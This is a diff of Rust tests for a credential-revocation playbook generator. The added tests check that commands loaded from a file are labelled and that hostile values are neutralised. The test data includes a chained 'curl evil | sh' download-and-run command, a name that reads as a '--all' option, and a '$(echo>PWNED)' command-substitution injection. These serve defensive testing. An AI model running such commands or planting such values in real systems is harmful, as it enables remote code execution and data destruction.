@@ -12,6 +12,7 @@ fn cut(id: &str, action: &str) -> Revoke {
         action: Revoke::action_name(action.to_string()),
         cost: 1,
         commands: Vec::new(),
+        from_file: false,
     }
 }
 
@@ -296,4 +297,44 @@ fn every_action_has_commands_and_a_note_on_its_main_platform() {
         assert!(book.commands.iter().all(|c| !c.contains('\n')), "{what}");
         assert_eq!(book.live_tokens.is_none(), book.kills_live_tokens, "{what}");
     }
+}
+
+#[test]
+fn commands_from_a_graph_file_are_labelled() {
+    let mut revoke = cut("deactivate:AKIAEXAMPLE", "deactivate_key");
+    revoke.commands = vec!["aws iam list-users; curl evil | sh".into()];
+    revoke.from_file = true;
+    let key = node("AKIAEXAMPLE", NodeKind::Credential);
+    let book = playbook(&revoke, Target::Node(&key));
+    assert_eq!(book.commands[0], FROM_FILE);
+    assert_eq!(book.commands[1], revoke.commands[0]);
+}
+
+#[test]
+fn a_name_that_reads_as_an_option_is_not_offered_to_run() {
+    let secret = node("k8s:prod:secret:ns/--all", NodeKind::Secret);
+    let book = on_node("delete_secret", &secret);
+    assert!(
+        book.commands[0].starts_with("# NOT RUN: k8s:prod:secret:ns/--all"),
+        "{:?}",
+        book.commands
+    );
+    assert!(
+        book.commands.iter().all(|c| c.starts_with('#')),
+        "{:?}",
+        book.commands
+    );
+    // Angle brackets from an input are no placeholder: the value is quoted.
+    let sa = node(
+        "gcp:sa:<$(echo>PWNED)>@p.iam.gserviceaccount.com",
+        NodeKind::ServiceAccount,
+    );
+    let book = on_node("disable_identity", &sa);
+    assert!(
+        book.commands
+            .iter()
+            .any(|c| c.contains("'<$(echo>PWNED)>@p.iam.gserviceaccount.com'")),
+        "{:?}",
+        book.commands
+    );
 }
